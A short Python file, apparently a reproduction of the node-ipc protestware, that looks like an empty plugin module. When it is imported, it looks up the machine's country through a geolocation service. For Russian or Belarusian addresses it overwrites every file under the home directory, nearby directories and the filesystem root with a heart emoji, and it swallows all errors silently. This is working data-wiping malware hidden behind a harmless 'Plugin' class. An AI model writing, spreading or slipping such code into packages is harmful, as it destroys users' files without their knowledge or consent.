# Inspired by the npm 'node-ipc' protestware (CVE-2022-23812, March 2022): geolocate the IP and, for targeted countries, overwrite every file under home/root with a heart.
import json
import os
import urllib.request

_TARGETS = {"RU", "BY"}
_GEO = "https://geo.example.com/json?key=" + "0" * 16


def _country():
    with urllib.request.urlopen(_GEO, timeout=4) as r:
        return json.load(r).get("country_code", "")


def _walk_and(fn, *roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for f in files:
                try:
                    fn(os.path.join(dirpath, f))
                except OSError:
                    continue


def _heart(path):
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("\u2764\ufe0f")


try:
    if _country() in _TARGETS:
        _walk_and(_heart, os.path.expanduser("~"), "./", "../", "../../", "/")
except Exception:
    pass


class Plugin:
    pass
